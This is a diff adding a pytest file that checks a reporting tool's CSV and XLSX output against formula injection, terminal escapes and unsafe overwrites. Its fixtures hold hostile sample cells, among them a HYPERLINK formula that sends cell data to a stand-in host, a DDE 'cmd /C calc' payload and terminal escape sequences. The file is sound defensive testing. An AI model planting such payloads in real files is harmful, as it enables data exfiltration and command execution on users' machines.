@@ -1,0 +1,268 @@
+"""Specification of output that must neither execute nor destroy: spreadsheet cells that stay
+text in every locale, a terminal report that cannot drive the terminal, and ``--output`` that
+never overwrites an input, a read-only file or a device, nor leaves a temporary file behind."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import signal
+import stat
+import subprocess
+import sys
+import threading
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import plan_rules as pr
+import report_support as rs
+from plan_rules import cli, formats
+from plan_rules.cells import FORMULA_STARTS, neutralise, printable, unneutralise
+from plan_rules.html import render_html
+from plan_rules.writers import write_atomically
+
+#: An entity code and name that try to become formulas when the template is opened.
+HOSTILE_CODE = '=HYPERLINK("http://evil.invalid/?"&A1,"x")'
+HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+ENTITIES = f'''code,name,level
+"{HOSTILE_CODE.replace('"', '""')}","{HOSTILE_NAME}",commune
+c1,"Xã Tân Hưng;=1+1",commune
+'''
+
+FIGURES = """indicator,entity,level,period,numerator,denominator,value,reported_on,source,note
+T1.A.1,c1,commune,Q4/2025,90,100,,,,
+T1.A.3,hy,province,Q4/2025,,,131,,,
+"""
+
+
+@pytest.fixture(autouse=True)
+def sample_registry(monkeypatch: pytest.MonkeyPatch, registry: pr.Registry) -> pr.Registry:
+    """The command line sees the sample plan instead of the installed plugins."""
+    monkeypatch.setattr(cli, "load_registry", lambda strict=None: registry)
+    monkeypatch.delenv("PLAN_RULES_LANG", raising=False)
+    monkeypatch.setenv("LANG", "C.UTF-8")
+    return registry
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    (tmp_path / "figures.csv").write_text(FIGURES, encoding="utf-8")
+    (tmp_path / "entities.csv").write_text(ENTITIES, encoding="utf-8")
+    return tmp_path
+
+
+def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
+    code = cli.main(list(args))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def spreadsheet_split(text: str, separator: str) -> list[list[str]]:
+    """Cells as a spreadsheet splits ``text`` on ``separator`` (LibreOffice's rule): a field
+    opening with a quote ends only at a quote followed by the separator or a line end."""
+    rows: list[list[str]] = []
+    row: list[str] = []
+    cell: list[str] = []
+    quoted = False
+    at_start = True
+    i = 0
+    while i < len(text):
+        c = text[i]
+        if quoted:
+            if c == '"' and text[i + 1:i + 2] == '"':
+                cell.append('"')
+                i += 2
+                continue
+            if c == '"' and (i + 1 == len(text) or text[i + 1] in (separator, "\r", "\n")):
+                quoted = False
+            else:
+                cell.append(c)
+            i += 1
+            continue
+        if at_start and c == '"':
+            quoted, at_start = True, False
+        elif c == separator:
+            row.append("".join(cell))
+            cell, at_start = [], True
+        elif c in "\r\n":
+            if c == "\r" and text[i + 1:i + 2] == "\n":
+                i += 1
+            row.append("".join(cell))
+            rows.append(row)
+            row, cell, at_start = [], [], True
+        else:
+            cell.append(c)
+            at_start = False
+        i += 1
+    if cell or row:
+        row.append("".join(cell))
+        rows.append(row)
+    return rows
+
+
+def formulas(text: str) -> list[str]:
+    """Every cell a spreadsheet would run, whichever separator its locale splits on."""
+    return [c for sep in (",", ";", "\t") for row in spreadsheet_split(text, sep) for c in row
+            if c[:1] and c[0] in FORMULA_STARTS and not c.lstrip("+-").replace(".", "")
+            .isdigit()]
+
+
+# -- the neutralisation itself ---------------------------------------------------------------
+
+
+@given(st.text(max_size=12))
+def test_unneutralise_gives_back_exactly_what_neutralise_was_given(text: str) -> None:
+    assert unneutralise(neutralise(text)) == text
+
+
+@given(st.text(max_size=12))
+def test_a_neutralised_cell_never_starts_a_formula(text: str) -> None:
+    assert neutralise(text)[:1] not in tuple(FORMULA_STARTS)
+
+
+@pytest.mark.parametrize("cell", ["'abc", "'", "''", "Xã 'Tân'", "'12"])
+def test_an_apostrophe_the_writer_did_not_add_is_kept(cell: str) -> None:
+    assert unneutralise(cell) == cell
+
+
+@pytest.mark.parametrize("number", ["-5", "-0.25", "+1", "-1.234,5", "-12,5%"])
+def test_a_negative_number_stays_a_number(number: str) -> None:
+    assert neutralise(number) == number
+
+
+def test_a_nul_at_the_start_of_a_cell_is_neutralised() -> None:
+    assert neutralise("\0=1+1") == "'\0=1+1"
+
+
+# -- the fill-in template --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("lang", ["en", "vi"])
+def test_template_csv_neutralises_entity_codes_and_names(
+        capsys: pytest.CaptureFixture[str], folder: Path, lang: str) -> None:
+    code, out, err = run(capsys, "template", "--entities", str(folder / "entities.csv"),
+                         "--period", "Q4/2025", "--lang", lang)
+    assert code == 0, err
+    assert formulas(out.lstrip("\ufeff")) == []
+    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff")),
+                           delimiter=";" if lang == "vi" else ","))
+    assert [rows[1][1], rows[1][5]] == ["'" + HOSTILE_CODE, "'" + HOSTILE_NAME]
+
+
+def test_template_csv_quotes_every_field(capsys: pytest.CaptureFixture[str],
+                                         folder: Path) -> None:
+    code, out, _ = run(capsys, "template", "--entities", str(folder / "entities.csv"),
+                       "--period", "Q4/2025")
+    assert code == 0
+    for line in out.lstrip("\ufeff").splitlines():
+        assert line.startswith('"') and line.endswith('"')
+
+
+def test_a_filled_in_csv_template_reads_back_the_original_entity_code(
+        capsys: pytest.CaptureFixture[str], folder: Path, registry: pr.Registry) -> None:
+    sheet = folder / "sheet.csv"
+    assert run(capsys, "template", "--entities", str(folder / "entities.csv"), "--period",
+               "Q4/2025", "-o", str(sheet))[0] == 0
+    text = sheet.read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    for r in rows:
+        r["numerator"], r["denominator"] = "5", "10"
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)
+    writer.writeheader()
+    writer.writerows(rows)
+    sheet.write_text(buffer.getvalue(), encoding="utf-8")
+    read = pr.read_observations(sheet, registry=registry)
+    assert [i for i in read.issues if i.severity == "error"] == []
+    assert {o.entity for o in read.observations} == {HOSTILE_CODE, "c1"}
+
+
+def test_template_xlsx_has_no_formula_cell(capsys: pytest.CaptureFixture[str],
+                                           folder: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    sheet = folder / "sheet.xlsx"
+    assert run(capsys, "template", "--entities", str(folder / "entities.csv"), "--period",
+               "Q4/2025", "-o", str(sheet))[0] == 0
+    with zipfile.ZipFile(sheet) as z:
+        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/")
+                    and b"<f>" in z.read(n)]
+    wb = openpyxl.load_workbook(sheet)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    entity = wb.worksheets[0]["B2"]
+    assert (entity.value, entity.data_type) == (HOSTILE_CODE, "s")
+    assert entity.quotePrefix  # stays text when the person edits the cell
+
+
+def test_a_filled_in_xlsx_template_reads_back_the_original_entity_code(
+        capsys: pytest.CaptureFixture[str], folder: Path, registry: pr.Registry) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    sheet = folder / "sheet.xlsx"
+    assert run(capsys, "template", "--entities", str(folder / "entities.csv"), "--period",
+               "Q4/2025", "-o", str(sheet))[0] == 0
+    wb = openpyxl.load_workbook(sheet)
+    ws = wb.worksheets[0]
+    for row in ws.iter_rows(min_row=2):
+        row[11].value, row[12].value = 5, 10  # numerator, denominator
+    wb.save(sheet)
+    read = pr.read_observations(sheet, registry=registry)
+    assert {o.entity for o in read.observations} == {HOSTILE_CODE, "c1"}
+
+
+# -- the CSV report --------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def hostile_report(registry: pr.Registry) -> pr.Report:
+    """A report whose data holds separators, formulas and terminal escapes."""
+    entities = (*rs.ENTITIES, pr.Entity(code="c3", name="Xã A;=1+1,@SUM(2)", level="commune"))
+    observations = [*rs.observations(), pr.Observation(
+        indicator="T1.A.1", entity="c3", period=pr.Period.parse("Q1/2025"), numerator=1,
+        denominator=2, file="figures.csv", row=20)]
+    issues = [*rs.issues(), pr.DataIssue(
+        code="bad_number", message=pr.Text.same("cannot read \x1b[2J\x1b]0;pwned\x07"),
+        file="figures.csv", row=21, field="value", text="x;-2+3+cmd|' /C calc'!A0\u202e",
+        expected="a number")]
+    return pr.evaluate(observations, registry=registry, as_of=rs.AS_OF, entities=entities,
+                       issues=issues)
+
+
+@pytest.fixture
+def hostile_cat(registry: pr.Registry) -> Iterator[formats.Catalogue]:
+    c = formats.Catalogue(indicators=registry.indicators, targets=registry.targets,
+                          plans=registry.plans,
+                          entities={e.code: e for e in (*rs.ENTITIES, pr.Entity(
+                              code="c3", name="Xã A;=1+1,@SUM(2)", level="commune"))})
+    token = formats.catalogue.set(c)
+    yield c
+    formats.catalogue.reset(token)
+
+
+@pytest.mark.parametrize("lang", ["en", "vi"])
+def test_csv_report_makes_no_formula_whatever_the_separator(
+        hostile_report: pr.Report, hostile_cat: formats.Catalogue, lang: str) -> None:
+    text = formats.render_csv(hostile_report, lang).lstrip("\ufeff")
+    assert "Xã A;=1+1" in text  # the hostile name is there, to be split
+    assert formulas(text) == []
+
+
+def test_csv_report_quotes_every_field(hostile_report: pr.Report,
+                                       hostile_cat: formats.Catalogue) -> None:
+    text = formats.render_csv(hostile_report, "en").lstrip("\ufeff")
+    for line in text.split("\r\n")[:-1]:
+        assert line.startswith('"') and line.endswith('"')
+
+
+def test_csv_report_keeps_negative_numbers_numbers(registry: pr.Registry) -> None:
+    report = pr.evaluate([], registry=registry, as_of=rs.AS_OF, issues=[pr.DataIssue(
+        code="bad_number", message=pr.Text.same("x"), file="f.csv", row=2, field="value",
+        text="-5")])
+    rows = list(csv.DictReader(io.StringIO(formats.render_csv(report, "en").lstrip("\ufeff"))))
+    assert [r["observed_text"] for r in rows if r["record"] == "issue"] == ["-5"]
